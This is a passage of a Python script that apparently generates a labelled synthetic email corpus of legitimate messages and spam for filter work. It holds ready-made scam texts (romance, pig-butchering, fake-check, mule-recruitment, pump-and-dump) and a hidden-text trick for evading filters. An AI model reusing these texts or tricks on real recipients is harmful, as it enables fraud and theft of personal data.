You are receiving this message because you are listed as a contact for a PPS student. Manage your preferences: https://go.schoolmessenger.com/#/account/preferences
''' % d.strftime('%A, %B %-d')
    add('ham', 'School district snow-day closure via SchoolMessenger', frm=('Portland Public Schools', 'noreply@schoolmessenger.com'), to=P['jonah'],
        subject='SCHOOLS CLOSED TODAY %s due to ice' % d.strftime('%-m/%-d'), date=d, infra='ses', text=text, dmarc_p='reject',
        headers=[('X-Priority', '1 (Highest)'), ('Importance', 'High')])

    d = rdate()
    text, html = txn('Ridgeview Commons HOA', '#2f6f4e', 'Quarterly assessment due %s' % (d + dt.timedelta(days=14)).strftime('%B %-d'),
                     ['Dear Dana Whitfield,', 'This is a reminder that your quarterly HOA assessment is due soon.'],
                     rows=[('Unit', '14B Ridgeview Ct'), ('Amount due', '$%s' % money(380, 460)), ('Due date', (d + dt.timedelta(days=14)).strftime('%m/%d/%Y'))],
                     cta='Pay online', url='https://ridgeviewcommons.appfolio.com/connect/users/sign_in',
                     after=['If you are enrolled in AutoPay, no action is needed.', 'Questions? Contact the management office at (503) 555-0176.'],
                     footer=['Ridgeview Commons HOA, managed by Cascade Community Management', 'Powered by AppFolio'])
    add('ham', 'HOA assessment reminder via AppFolio', frm=('Ridgeview Commons HOA', 'donotreply@appfolio.com'), to=P['dana'],
        reply_to=('Cascade Community Management', 'office@cascadecommunitymgmt.com'), subject='Ridgeview Commons HOA: quarterly assessment reminder',
        date=d, infra='sendgrid', text=text, html=html, dmarc_p='reject')

    d = rdate((2025, 11, 5), (2025, 12, 10))
    pdf = make_pdf(['Ridgeview Commons HOA - Annual Meeting Minutes', 'Called to order 7:02 PM, clubhouse', 'Quorum: 41 of 68 units represented',
                    '1. 2026 budget approved (32 yes, 6 no, 3 abstain)', '2. Pool resurfacing scheduled for April', '3. Board election: two seats filled',
                    'Adjourned 8:40 PM'], title='Annual Meeting Minutes', author='HOA Secretary', producer='Microsoft Word', d=d)
    text = '''Hi neighbors,

Attached are the minutes from last Tuesday's annual meeting and the approved 2026 budget. Quick summary:

- The 2026 budget passed. Dues go up 3%% starting in January (about $12/quarter for most units).
- Pool resurfacing is scheduled for April, so the pool will open about two weeks late.
- Welcome to our two new board members, Carla and Ted!

If you have questions, reply here or come to the December board meeting (first Tuesday, 7pm, clubhouse).

Thanks,
Dana Whitfield
HOA Secretary
'''
    add('ham', 'HOA secretary sends meeting minutes from Gmail with PDF', frm=('Dana Whitfield', 'dana.whitfield.pdx@gmail.com'),
        to=[('Ridgeview Commons Owners', 'owners@ridgeview-hoa.example')], rcpt=P['dana'][1], subject='Annual meeting minutes + 2026 budget',
        date=d, infra='google', text=text.replace('%%', '%'), html=simple_html(text.replace('%%', '%').strip().split('\n\n')),
        attachments=[attach(pdf, 'application/pdf', 'Annual Meeting Minutes 2025.pdf'),
                     attach(make_pdf(['2026 Operating Budget', 'Total income $214,800', 'Reserve contribution $46,000'], title='Budget', d=d), 'application/pdf', '2026 Budget - Approved.pdf')])

    d = rdate((2025, 9, 10), (2025, 10, 10))
    text, html = mkt('Lincoln Elementary PTA', '#e07a1f', 'Fall Festival: we need YOU!',
                     ['Hi Lincoln families! Fall Festival is Saturday, October 18 from 11am to 3pm, and we still need volunteers for the bake sale, face painting and the cake walk.',
                      'Shifts are just one hour. Sign up on the SignUpGenius link below - and if you can bake, we\'d love a donation of cookies or cupcakes (nut-free please!).',
                      'Proceeds support classroom grants, the library and the 5th grade science camp.'],
                     'Volunteer sign-up', trk('mailchimp', 'lincolnpta'), preheader='One-hour shifts, plenty of options.',
                     unsub_url=trk('mailchimp', 'lincolnpta'), footer=['Lincoln Elementary PTA, 5200 SE Lincoln St, Portland, OR 97215'], variant=1)
    add('ham', 'PTA volunteer newsletter via Mailchimp', frm=('Lincoln Elementary PTA', 'lincolnpta@mail.lincolnelementarypta.org'), to=P['priya'],
        subject='🍂 Fall Festival volunteers needed!', date=d, infra='mailchimp', mc_slug='lincolnpta', list_name='Lincoln Elementary PTA',
        text=text, html=html, unsub=True, dmarc_p='none')


# ============================================================================
# SPAM helpers
# ============================================================================
ALL_PEOPLE = [k for k in P if k not in ('ap_harbor', 'finance_oak', 'ops_bluefen', 'info_north')]
FILLER = ('river orange paper window quiet seven garden copper lantern meadow silver thunder marble ocean velvet harbor '
          'canyon maple ember willow prism falcon cedar summit glacier saffron nimbus quartz tundra violet').split()


def anyone():
    return P[pick(ALL_PEOPLE)]


def bad(dom, path=None, q=True):
    p = path if path is not None else pick(['', 'go/', 'r/', 'c/', 'lp/', 'offer/', 'track/']) + rs(R.randint(6, 14))
    u = 'https://%s/%s' % (dom, p)
    if q and R.random() < 0.5:
        u += '?%s=%s' % (pick(['cid', 'uid', 'sub', 'ref', 'aff', 'e']), rs(R.randint(8, 24)))
    return u


def hidden_filler(n=30):
    return '<div style="display:none;color:#ffffff;font-size:1px;line-height:1px;max-height:0px;overflow:hidden">%s</div>' % ' '.join(pick(FILLER) for _ in range(n))


def spam_html(paras, cta=None, url=None, color='#d40000', headline=None, img=None, hidden=False, foot=None,
              unsub=None, preheader='', font='Arial,Helvetica,sans-serif', bg='#ffffff', title=''):
    h = ''
    if headline:
        h += '<h1 style="font-family:%s;color:%s;font-size:26px;text-align:center;margin:10px 0 18px">%s</h1>\n' % (font, color, esc(headline))
    if img:
        h += '<p style="text-align:center"><a href="%s"><img src="%s" width="520" style="max-width:100%%;border:0" alt=""></a></p>\n' % (esc(url or '#'), esc(img))
    for p in paras:
        h += '<p style="font-family:%s;font-size:16px;line-height:1.5;color:#222">%s</p>\n' % (font, esc(p).replace('\n', '<br>'))
    if cta:
        h += ('<p style="text-align:center;margin:26px 0"><a href="%s" style="background:%s;color:#fff;font-family:%s;font-weight:bold;font-size:18px;'
              'padding:15px 34px;border-radius:6px;text-decoration:none;display:inline-block">%s</a></p>\n') % (esc(url), color, font, esc(cta))
    if hidden:
        h += hidden_filler() + '\n'
    if foot or unsub:
        h += '<p style="font-family:%s;font-size:11px;color:#999;text-align:center;margin-top:40px">%s%s</p>\n' % (
            font, esc(foot or ''), (' <a href="%s" style="color:#999">Unsubscribe</a>' % esc(unsub)) if unsub else '')
    inner = '<table width="100%%" cellpadding="0" cellspacing="0" bgcolor="%s"><tr><td align="center"><table width="600" cellpadding="18"><tr><td>\n%s</td></tr></table></td></tr></table>' % (bg, h)
    return html_page(inner, title or (headline or ''), preheader, bg=bg)


def spam(scen, **kw):
    if 'to' not in kw:
        kw['to'] = anyone()
    add('spam', scen, **kw)


# ============================================================================
# SPAM A: supplements / GLP-1 (8)
# ============================================================================
def spam_health():
    dom = 'slimrxdirect.com'
    url = trk('sgb', dom)
    text, html = mkt('SlimRx Direct', '#0b7a75', 'Lose up to 20% of your body weight. No waiting rooms.',
                     ['Compounded semaglutide, the same active ingredient used in the brand-name weekly shots, is now available online for $149/month. No insurance needed.',
                      'Complete a 3-minute online assessment. A licensed provider reviews it within 24 hours, and your medication ships overnight in a discreet cold pack.',
                      'Spots for new patients this month are limited. Members lost an average of 18 lbs in their first 12 weeks.*'],
                     'See if I qualify', url, preheader='$149/month. Ships overnight. No insurance needed.', unsub_url=trk('sgb', dom),
                     footer=['SlimRx Direct, 1309 Coffeen Ave Ste 1200, Sheridan, WY 82801'],
                     fine='*Individual results vary. Compounded medications are not FDA-approved. Eligibility determined by provider.', variant=1)
    spam('GLP-1 compounded semaglutide telehealth ad via SendGrid, clean auth', frm=('SlimRx Direct', 'care@' + dom),
         subject='Your weight-loss plan is ready, $149/mo (no insurance)', infra='sendgrid', text=text, html=html, unsub=True)

    dom = 'glucotrim-official.shop'
    url = bad(dom)
    html = spam_html(['Doctors are stunned. A simple "sugar switch" discovered in a remote Himalayan village is helping thousands of people balance blood sugar - without giving up carbs.',
                      'GlucoTrim combines 8 clinically studied plant extracts in one daily capsule. Many people report steadier energy in the first week.',
                      'Today only: buy 3 bottles, get 3 FREE + free shipping.'],
                     'CLAIM 3 FREE BOTTLES', url, '#1e8e3e', 'The "Ozempic alternative" pharma doesn\'t want you to know about',
                     img='https://%s/img/bottles-%s.png' % (dom, rl(5)), hidden=True, unsub=bad(dom, 'unsubscribe'),
                     foot='These statements have not been evaluated by the FDA. 8 The Green Ste B, Dover, DE 19901')
    spam('Blood-sugar supplement "Ozempic alternative" HTML-only via Brevo', frm=('GlucoTrim', 'hello@' + dom),
         subject='The $2 "sugar switch" doctors are talking about', infra='brevo', html=html, unsub=True, html_cte='base64')

    dom = 'dailyhealthdigest.info'
    url = bad(dom)
    text = '''HEALTH DIGEST - Special Report

"I dropped 4 dress sizes without dieting" - how a retired teacher from Ohio finally beat stubborn belly fat

When Margaret turned 61, she had tried everything. Weight Watchers, keto, even a personal trainer. Nothing worked - until her daughter showed her a 30-second morning routine a TV doctor had shared on a popular talk show.

"I honestly thought it was a scam," Margaret says. "But I was down 11 pounds the first month."

The secret? A gummy made with apple cider vinegar, BHB ketones and pomegranate extract that helps your body burn fat for fuel.

>> Watch the free presentation before it's taken down: %s

Limited supply. Offer valid while stock lasts.

--
You are receiving this because you subscribed to Health Digest partner offers.
Opt out: %s
Health Digest, 2810 N Church St #94572, Wilmington, DE 19802
''' % (url, bad(dom, 'optout'))
    spam('Keto-gummy advertorial with fake testimonial via Mailjet', frm=('Health Digest', 'news@' + dom),
         subject='Retired teacher loses 4 dress sizes with 30-second ritual', infra='mailjet', text=text,
         html=spam_html(text.split('\n\n')[1:6], 'Watch the presentation', url, '#c0392b', 'Health Digest - Special Report'), unsub=True)

    dom = 'neurocalm-labs.com'
    text = '''Hi,

This is Sarah. I'm not a doctor, just a mom who spent six years with burning, tingling feet that kept me up every night.

I'm writing because last week my neighbor asked how I finally got my life back, and I realized I had never told anyone outside my family.

It wasn't a pill from my doctor. It was a 7-second "nerve reset" I learned from a retired Navy physician, combined with three nutrients most people over 50 are missing.

I made a short video explaining exactly what I did. It's free, but the company that made the formula asked me to keep it up only for a few days:

%s

Please watch it tonight if you or someone you love has nerve pain.

Sarah

P.S. Don't skip to the end. The first 4 minutes are the important part.

---
Unsubscribe: %s | 30 N Gould St Ste R, Sheridan, WY 82801
''' % (bad(dom, 'vsl/' + rl(8)), bad(dom, 'u'))
    spam('Story-style nerve-pain supplement VSL pitch, plain text via SES', frm=('Sarah from NeuroCalm', 'sarah@' + dom),
         subject='my feet stopped burning (not what I expected)', infra='ses', text=text, unsub=True)

    dom = 'metabolic-insider.co'
    url = bad(dom)
    text, html = mkt('Metabolic Insider', '#e67e22', 'This 5-second Japanese "mountain tonic" melts fat while you sleep',
                     ['Researchers at a Tokyo university found a surprising link between stubborn belly fat and low internal body temperature.',
                      'The fix? A morning tonic made from 6 rare plants. Over 240,000 people have already tried it.',
                      'Watch the short video below - it may be taken down soon.'],
                     'Watch now', url, unsub_url=bad(dom, 'unsubscribe'), footer=['Metabolic Insider Media, PO Box 14402, Las Vegas, NV 89114'], variant=0)
    spam('Japanese "tonic" weight-loss advertorial via Mailgun', frm=('Metabolic Insider', 'info@' + dom),
         subject='Japanese tonic melts 62 lbs (watch before it\'s removed)', infra='mailgun', text=text, html=html, unsub=True)

    dom = 'verdahealth.xyz'
    url = trk('sgb', dom)
    html = spam_html(['Compounded tirzepatide, now just $199/month.', 'No insurance. No appointment. Online consult in 5 minutes.',
                      '✓ Ships in 48 hours\n✓ Price locked for 12 months\n✓ Cancel anytime',
                      'Limited spots available this week - claim yours before the price goes up on Monday.'],
                     'Start my consult →', url, '#5b2bd1', 'GLP-1 weight loss for $199/mo', unsub=trk('sgb', dom),
                     foot='Verda Health Inc. Not available in all states. Medication prescribed only if appropriate.', preheader='Price locked for 12 months.')
    spam('Compounded tirzepatide GLP-1 ad, HTML-only via SendGrid', frm=('Verda Health', 'team@' + dom),
         subject='💉 Tirzepatide for $199/mo - price goes up Monday', infra='sendgrid', html=html, unsub=True)

    dom = 'bienestar-natural.online'
    text = '''Hola,

¿Quieres perder hasta 10 kilos en 30 días sin pasar hambre y sin ir al gimnasio?

Miles de personas en España ya están usando KetoSlim Forte, la fórmula natural que activa la quema de grasa desde el primer día.

- 100%% natural
- Sin efectos secundarios
- Envío gratis y pago contra reembolso

OFERTA SOLO HOY: -50%% en tu primer pedido.

Pide ahora: %s

Si no deseas recibir más correos, haz clic aquí: %s
''' % (bad(dom), bad(dom, 'baja'))
    spam('Spanish diet-pill spam from a cheap VPS, no DKIM', frm=('Bienestar Natural', 'info@' + dom), to=P['javier'],
         subject='Pierde 10 kilos en 30 días sin dieta 🔥', infra='direct', text=text.replace('%%', '%'), charset='iso-8859-1',
         text_cte='quoted-printable', hcs='utf-8', spf='softfail', dmarc_p=None)

    dom = 'vitalitymax-rx.net'
    text = '''Dear Sir,

Are you tired of feeling tired? Tired of disappointing her?

VitalityMax is the #1 natural male performance formula. Results in 30 minutes. 100%% satisfaction or money back.

* Bigger, harder, longer
* Increased stamina
* Discreet packaging

ORDER NOW AND SAVE 70%%: %s

Only 23 bottles left at this price!!!

To be removed from our list, reply REMOVE.
''' % bad(dom, '?id=' + rdig(6), q=False)
    spam('Male-enhancement junk from botnet host, base64 plain text', frm=('VitalityMax', 'offers@' + dom),
         subject='RE: your order ' + rdig(5), infra='direct', text=text.replace('%%', '%'), text_cte='base64', spf='none', dmarc_p=None,
         headers=[('X-Mailer', 'Microsoft Outlook Express 6.00.2900.5512'), ('X-Priority', '3'), ('X-MSMail-Priority', 'Normal')])


# ============================================================================
# SPAM B: crypto / investment (7)
# ============================================================================
def spam_invest():
    dom = 'quantedge-ai.io'
    url = trk('sgb', dom)
    text, html = mkt('QuantEdge AI', '#00c2a8', 'Our AI bot returned 3.2% per day last month.',
                     ['QuantEdge scans 40,000 crypto pairs every second and executes trades before the market moves. Members average 18-26% monthly returns.*',
                      'Start with as little as $250. Withdraw any time. No experience needed - the bot does everything.',
                      'We only accept 100 new members each week to protect liquidity. 14 spots remain.'],
                     'Claim my spot', url, unsub_url=trk('sgb', dom), footer=['QuantEdge Technologies Ltd., Suite 305, Griffith Corporate Centre, Kingstown, St. Vincent and the Grenadines'],
                     fine='*Past performance is not indicative of future results. Trading involves risk.', variant=1,
                     preheader='14 spots left this week.')
    spam('AI crypto trading bot investment pitch via SendGrid', frm=('QuantEdge AI', 'invest@' + dom),
         subject='🚀 Last month our members made 96% (14 spots left)', infra='sendgrid', text=text, html=html, unsub=True)

    dom = 'novachain-presale.xyz'
    url = bad(dom)
    html = spam_html(['The $NOVA presale is 91% filled. When it hits 100%, the price jumps 4x at launch on major exchanges.',
                      'Early buyers get a 40% token bonus and staking rewards of 1,200% APY.',
                      'Connect your wallet and buy with ETH, USDT or card.'],
                     'BUY $NOVA NOW', url, '#7b2ff7', 'FINAL 48 HOURS: $NOVA PRESALE', hidden=True, unsub=bad(dom, 'unsub'),
                     bg='#0e0b1f', title='NOVA presale')
    spam('Crypto token presale hype via Mailjet', frm=('Nova Chain', 'airdrop@' + dom), subject='⏳ 48h left: $NOVA presale 91% sold',
         infra='mailjet', html=html, unsub=True)

    dom = 'mailboxly.net'
    text = '''Hello,

I am sorry to disturb you. I think my assistant gave me your email by mistake, I was looking for Mr. David Chen about the wine import business.

Since we are already talking, may I ask where you are from? I am Amelia, I live in Seattle now but originally I am from Singapore. I work in finance, mostly gold and crypto futures with my uncle's team.

Nice to meet you anyway. Have a good day :)

Amelia
'''
    spam('Pig-butchering "wrong recipient" opener from a look-alike webmail domain', frm=('Amelia Tan', 'amelia.tan88@' + dom),
         subject='Mr. Chen?', infra='direct', helo='mail.' + dom, text=text, spf='pass', dmarc_p='none', dkim_override=[(dom, 'mx', 'rsa')])

    dom = 'americanlegacygold.co'
    text, html = mkt('American Legacy Gold', '#b8860b', 'Is your retirement protected from the next crash?',
                     ['With inflation, bank failures and record national debt, thousands of Americans are moving part of their 401(k) or IRA into physical gold and silver - tax-free and penalty-free.',
                      'Request your FREE 2026 Gold IRA Guide today and receive up to $15,000 in free silver on qualifying purchases.',
                      'Our specialists are standing by.'],
                     'Get my free guide', trk('hsb', dom), unsub_url=trk('hsb', dom), footer=['American Legacy Gold, 9454 Wilshire Blvd, Beverly Hills, CA 90212'],
                     variant=0, fine='Free silver offer subject to terms and qualified purchase.')
    spam('Gold IRA fear-based investment pitch via HubSpot', frm=('American Legacy Gold', 'info@' + dom),
         subject='Warning: your 401(k) may not survive 2026', infra='hubspot', text=text, html=html, unsub=True, hs_host='go.' + dom)

    dom = 'btccloudmine.top'
    url = bad(dom, 'withdraw/' + rs(10))
    html = spam_html(['Dear user,', 'Your cloud mining contract has generated 0.0751 BTC ($4,812.60) which is ready for withdrawal.',
                      'To complete the withdrawal, please log in and pay the one-time network activation fee of 0.0015 BTC.',
                      'Unclaimed balances are returned to the pool after 72 hours.'],
                     'WITHDRAW NOW', url, '#f7931a', 'Your balance: 0.0751 BTC', foot='BTC CloudMine Ltd. 2026', title='Withdrawal ready')
    spam('Fake cloud-mining balance "withdraw" scam, botnet host', frm=('BTC CloudMine', 'support@' + dom),
         subject='Your 0.0751 BTC withdrawal is ready', infra='direct', html=html, spf='neutral', dmarc_p=None)

    dom = 'finanz-insider24.net'
    text = '''Sehr geehrte Damen und Herren,

ein neues KI-Handelsprogramm macht in Deutschland gerade Schlagzeilen: Normale Bürger verdienen damit bis zu 2.500 € pro Woche – ohne Vorkenntnisse.

Schon mit einer Einzahlung von 250 € können Sie starten. Die Software handelt vollautomatisch mit Bitcoin, Gold und Aktien.

Prominente Unternehmer und Moderatoren sprechen bereits darüber. Die Banken sind wütend!

Jetzt kostenlos registrieren: %s

Nur noch wenige Plätze verfügbar.

Mit freundlichen Grüßen
Ihre Redaktion Finanz-Insider

Abmelden: %s
''' % (bad(dom), bad(dom, 'abmelden'))
    spam('German AI-trading get-rich scheme in windows-1252 via Brevo', frm=('Finanz-Insider', 'redaktion@' + dom), to=P['felix'],
         subject='Passives Einkommen mit KI: bis zu 2.500 € pro Woche', infra='brevo', text=text, charset='windows-1252',
         text_cte='quoted-printable', hcs='windows-1252', unsub=True)

    dom = 'microcap-movers.com'
    tick = rs(4, string.ascii_uppercase)
    text = '''MICROCAP MOVERS - URGENT ALERT

Ticker: %s (OTC)
Current: $0.38
Target: $2.10 (450%% upside)

Why we're watching: %s just announced a lithium supply agreement that analysts say could triple revenue. Volume is spiking and we believe the big move hasn't happened yet.

This is our #1 pick for the month. Get %s on your screen TODAY before Monday's open.

Full report: %s

Disclaimer: Microcap Movers has been compensated thirty thousand dollars by a third party for coverage of %s. We may sell shares at any time. This is not investment advice.
Unsubscribe: %s
''' % (tick, tick, tick, bad(dom), tick, bad(dom, 'unsubscribe'))
    spam('Penny-stock pump-and-dump alert via SendGrid', frm=('Microcap Movers', 'alerts@' + dom), subject='%s: our #1 pick before Monday (450%% upside)' % tick,
         infra='sendgrid', text=text.replace('%%', '%'), unsub=True)


# ============================================================================
# SPAM C: casino / betting (5)
# ============================================================================
def spam_casino():
    dom = 'spinoria-casino.com'
    url = bad(dom)
    text, html = mkt('Spinoria Casino', '#8e24aa', '€500 + 200 Free Spins are waiting for you',
                     ['Your welcome package is ready: 100% match bonus up to €500 on your first deposit, plus 200 free spins on Book of Gold.',
                      'Fast payouts in under 10 minutes. Play on mobile or desktop. Thousands of slots and live tables.',
                      'Offer expires in 24 hours.'],
                     'Claim bonus', url, unsub_url=bad(dom, 'unsub'), footer=['Spinoria N.V., Curaçao. 18+ Play responsibly.'], variant=0)
    spam('Online casino welcome-bonus offer via Mailgun', frm=('Spinoria Casino', 'bonus@' + dom), subject='🎰 €500 + 200 Free Spins (expires in 24h)',
         infra='mailgun', text=text, html=html, unsub=True)

    dom = 'luckyvault.bet'
    html = spam_html(['Congratulations! Your account has been credited with 100 FREE SPINS - no deposit required.',
                      'Spin now and keep what you win. VIP members withdraw instantly.'],
                     'SPIN NOW', bad(dom), '#ffb300', 'YOU\'VE BEEN SELECTED 🎉', img='https://cdn.%s/banners/%s.gif' % (dom, rl(8)),
                     hidden=True, unsub=bad(dom, 'unsubscribe'), foot='18+. T&Cs apply.', bg='#111111')
    spam('No-deposit free-spins casino spam via Brevo', frm=('LuckyVault VIP', 'vip@' + dom), subject='100 FREE SPINS credited to your account',
         infra='brevo', html=html, unsub=True)

    dom = 'betnorth-sports.com'
    text, html = mkt('BetNorth', '#00796b', 'Your first bet is on us - up to $1,000',
                     ['Sign up today and if your first bet loses, we\'ll refund it in bonus bets up to $1,000.',
                      'Odds boosts on every big game this weekend. Live betting, same-game parlays, instant withdrawals.'],
                     'Claim my bonus', trk('sparkpost', 'click.' + dom), unsub_url=trk('sparkpost', 'click.' + dom),
                     footer=['BetNorth Gaming LLC. Gambling problem? Call 1-800-GAMBLER.'], variant=1)
    spam('Sports-betting promo to a non-customer via SparkPost', frm=('BetNorth', 'promo@' + dom), subject='Risk-free first bet up to $1,000 🏈',
         infra='sparkpost', text=text, html=html, unsub=True)

    dom = 'stakeon.games'
    text = '''STAKEON - CRYPTO CASINO

Deposit USDT, BTC or ETH today and get a 300%% bonus up to 5,000 USDT.

No KYC. Instant withdrawals. Provably fair games.

Your promo code: STAKE300

Play now -> %s

You received this message because your email was registered with one of our partners.
''' % bad(dom, '?ref=' + rs(8), q=False)
    spam('No-KYC crypto casino spam from a VPS', frm=('Stakeon', 'rewards@' + dom), subject='300% crypto bonus - no KYC, instant withdrawals',
         infra='direct', text=text, spf='none', dmarc_p=None)

    dom = 'casino-dorado.club'
    text = '''¡Hola!

Te regalamos un BONO DE BIENVENIDA DEL 200%% hasta 1.000 € + 50 giros gratis.

Regístrate en menos de 1 minuto y empieza a jugar en más de 3.000 tragaperras y mesas en vivo.

Juega ahora: %s

Oferta válida solo durante 48 horas. +18. Juega con responsabilidad.

Darse de baja: %s
''' % (bad(dom), bad(dom, 'baja'))
    spam('Spanish casino bonus spam via Mailjet', frm=('Casino Dorado', 'bonos@' + dom), to=P['lucia'], subject='🎁 Bono del 200% + 50 giros gratis para ti',
         infra='mailjet', text=text, html=spam_html(text.split('\n\n')[1:4], 'JUGAR AHORA', bad(dom), '#d4af37', 'Bono de bienvenida'), unsub=True)


# ============================================================================
# SPAM D: dating (5)
# ============================================================================
def spam_dating():
    dom = 'matchmingle-app.com'
    url = trk('sgb', dom)
    html = spam_html(['Anna, 29, sent you a private message and 2 photos.', '"Hey there 😊 I saw your profile and thought you looked interesting... are you free this weekend?"',
                      'Messages from new members expire after 24 hours.'],
                     'Read message', url, '#e91e63', 'You have 1 unread message', img='https://img.%s/p/%s.jpg' % (dom, rhex(12)),
                     unsub=trk('sgb', dom), foot='MatchMingle, 16192 Coastal Hwy, Lewes, DE 19958')
    spam('Dating site fake unread-message lure via SendGrid', frm=('MatchMingle', 'noreply@' + dom), subject='Anna (29) sent you a private message 💌',
         infra='sendgrid', html=html, unsub=True)

    dom = 'localhearts.date'
    text = '''Single women near Portland want to meet TONIGHT

We found 14 women within 5 miles of you who are looking for casual fun. No strings attached.

Click to see their photos (18+ only): %s

Free to join. 100%% discreet.
''' % bad(dom)
    spam('Adult hookup site spam from botnet', frm=('LocalHearts', 'alerts@' + dom), subject='14 women near you want to chat tonight',
         infra='direct', text=text.replace('%%', '%'), spf='softfail', dmarc_p=None)

    dom = 'rumbler-mail.com'
    text = '''Hi dear,

How are you doing? I hope you are fine. My name is Elena, I am 32 years old and I live in Kharkiv. I found your email on a dating site and decided to write to you.

I am a kind, sincere and honest woman. I work as an English teacher. I like cooking, walking in the park and reading books. I dream to find a serious man for a family.

If you are interested to know me better, please write me back to my private email elena.kovalenko92@%s and I will send you my photos.

Waiting for your letter,
Elena
''' % dom
    spam('Romance-scam introduction letter, plain text', frm=('Elena', 'elena.k.1992@' + dom), subject='Hello from Elena',
         infra='direct', helo='smtp.' + dom, text=text, spf='pass', dmarc_p='none', dkim_override=[(dom, 'default', 'rsa')])

    dom = 'goldenyearsmatch.net'
    text, html = mkt('GoldenYearsMatch', '#c2185b', 'You have 3 new likes!',
                     ['Singles over 50 in your area liked your profile this week. See who they are and say hello.',
                      'Upgrade today and get 60% off your first month.'],
                     'See who likes me', bad(dom), unsub_url=bad(dom, 'unsubscribe'), footer=['GoldenYearsMatch Ltd., 71-75 Shelton Street, London WC2H 9JQ'], variant=1)
    spam('Senior dating "new likes" upsell via Mailgun', frm=('GoldenYearsMatch', 'team@' + dom), subject='3 singles liked your profile ❤️',
         infra='mailgun', text=text, html=html, unsub=True)

    dom = 'deai-heart.net'
    text = '''はじめまして、ミユキです。

突然のメール失礼します。
プロフィールを見て、すごく気になったので連絡しちゃいました。
近くに住んでいるみたいなので、よかったら今度お茶でもどうですか？

写真も送りたいので、こちらから返信してくださいね。
%s

待ってます♪
''' % bad(dom, 'm/' + rs(10), q=False)
    spam('Japanese dating spam in ISO-2022-JP from botnet', frm=('ミユキ', 'miyuki_%s@%s' % (rdig(3), dom)), to=P['kenji'],
         subject='【重要】あなた宛てにメッセージが届いています', infra='direct', text=text, charset='iso-2022-jp', text_cte='7bit',
         hcs='iso-2022-jp', subj_cs='iso-2022-jp', spf='none', dmarc_p=None)


# ============================================================================
# SPAM E: fake jobs and task scams (7)
# ============================================================================
def spam_jobs():
    dom = 'globalstaffing-hub.com'
    text, html = mkt('Global Staffing Hub', '#1565c0', 'Remote Data Entry Clerk - $45/hr',
                     ['We reviewed your resume on a job board and think you would be a great fit for our remote data entry position.',
                      'Pay: $45/hr, weekly payouts. Hours: flexible, 10-20 per week. Equipment: provided (we send you a check to purchase a laptop from our approved vendor).',
                      'No experience required. Apply in 2 minutes - interviews are done by text chat.'],
                     'Apply now', trk('sgb', dom), unsub_url=trk('sgb', dom), footer=['Global Staffing Hub LLC, 8 The Green #12345, Dover, DE 19901'], variant=0)
    spam('Fake remote data-entry job with equipment-check red flag', frm=('Hiring Team', 'careers@' + dom),
         subject='Your application: Remote Data Entry Clerk ($45/hr)', infra='sendgrid', text=text, html=html, unsub=True)

    dom = 'appboostworks.com'
    text = '''Hi,

My name is Olivia and I am a recruiter for AppBoost Works. We are looking for part-time online workers to help app developers improve their rankings.

Job details:
- Work from your phone, 60-90 minutes per day
- Complete 40 simple "tasks" (rating apps)
- Earn $300-$800 per day + commission
- Daily payment in USDT

You must be over 23 years old. No experience needed, we provide training.

If interested, please contact me on WhatsApp: +1 (929) 555-0%s

Best regards,
Olivia
Talent Acquisition
''' % rdig(3)
    spam('Task-scam job offer asking to move to WhatsApp', frm=('Olivia | Talent Acquisition', 'olivia.hr@' + dom),
         subject='Part-time job: $300-$800/day from your phone', infra='direct', helo='mail.' + dom, text=text, spf='pass',
         dmarc_p='none', dkim_override=[(dom, 'default', 'rsa')])

    dom = 'shopperinsight-group.net'
    text = '''SECRET SHOPPER ASSIGNMENT #%s

Congratulations! You have been selected to participate in our Mystery Shopper program in your area.

Your first assignment: evaluate the customer service of a local money transfer location. You will receive a cashier's check for $2,450.00 by mail. Deposit the check, keep $400 as your payment, and use the remaining funds to complete the evaluation as instructed.

To confirm your participation, reply with:
Full Name:
Mailing Address:
Cell Phone:

Regards,
Assignment Coordinator
Shopper Insight Group
''' % rdig(5)
    spam('Mystery-shopper fake-check scam, plain text', frm=('Secret Shopper Program', 'assignments@' + dom),
         subject='Assignment #%s: You have been selected' % rdig(5), infra='direct', text=text, spf='softfail', dmarc_p=None,
         reply_to=('Assignment Coordinator', 'coordinator.shopper@mailboxly.net'))

    dom = 'brightlinetalent.co'
    text = '''Hello,

I hope this message finds you well. I'm Rachel Morgan, HR Manager at Brightline Talent.

We are currently hiring for flexible part-time positions (remote). Based on your background, we believe you would be an excellent candidate.

• Daily working time: 1-2 hours
• Daily salary: $200-$500
• Payment: daily, via bank transfer

If you are interested, please reply with "YES" and our assistant will contact you via Telegram or WhatsApp with more details.

Kind regards,
Rachel Morgan
HR Manager
'''
    spam('Generic part-time remote job scam via Mailjet', frm=('Rachel Morgan', 'r.morgan@' + dom), subject='Remote part-time position - daily pay',
         infra='mailjet', text=text)

    dom = 'parcelforward-solutions.com'
    text = '''Dear Candidate,

Thank you for your interest. We are pleased to offer you the position of Home-Based Logistics Coordinator with Parcel Forward Solutions.

Responsibilities:
- Receive packages at your home address
- Inspect contents and repackage them
- Print prepaid shipping labels and send to our international clients

Compensation: $2,800 per month during the 30-day probation, then $3,400 per month plus bonuses.

Please complete the attached onboarding form and return it with a copy of your ID so we can set up your payroll.

Sincerely,
Human Resources Department
Parcel Forward Solutions
'''
    doc = make_docx(['EMPLOYEE ONBOARDING FORM', 'Full legal name:', 'Date of birth:', 'Home address (packages will be delivered here):',
                     'Social Security Number:', 'Bank name / routing / account number:', 'Please attach a photo of your driver\'s license.'], 'Onboarding form', 'HR')
    spam('Package-reshipping mule job with DOCX form via Zoho-hosted domain', frm=('Human Resources', 'hr@' + dom),
         subject='Job offer: Home-Based Logistics Coordinator', infra='zoho', text=text,
         attachments=[attach(doc, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'Onboarding_Form_PFS.docx')])

    dom = 'empleo-rapido.online'
    text = '''Hola,

Estamos buscando personas para trabajar desde casa solo 2 horas al día.

Sueldo: entre 150 € y 400 € diarios
No se necesita experiencia
Pago diario

Para más información escríbenos por WhatsApp: +34 6%s %s %s

Un saludo,
Departamento de Recursos Humanos
''' % (rdig(2), rdig(3), rdig(3))
    spam('Spanish work-from-home job scam via Brevo', frm=('Recursos Humanos', 'rrhh@' + dom), to=P['lucia'],
         subject='Oferta de empleo: trabaja desde casa 2 horas al día', infra='brevo', text=text, unsub=True)

    dom = 'careerpath-connect.org'
    text, html = mkt('CareerPath Connect', '#2e7d32', 'Your resume was shortlisted',
                     ['Good news! An employer reviewed your profile and shortlisted you for a Customer Support Specialist (Remote) role paying $32-$38/hour.',
                      'To move forward, verify your identity and complete a short skills assessment. Premium candidates are interviewed first.'],
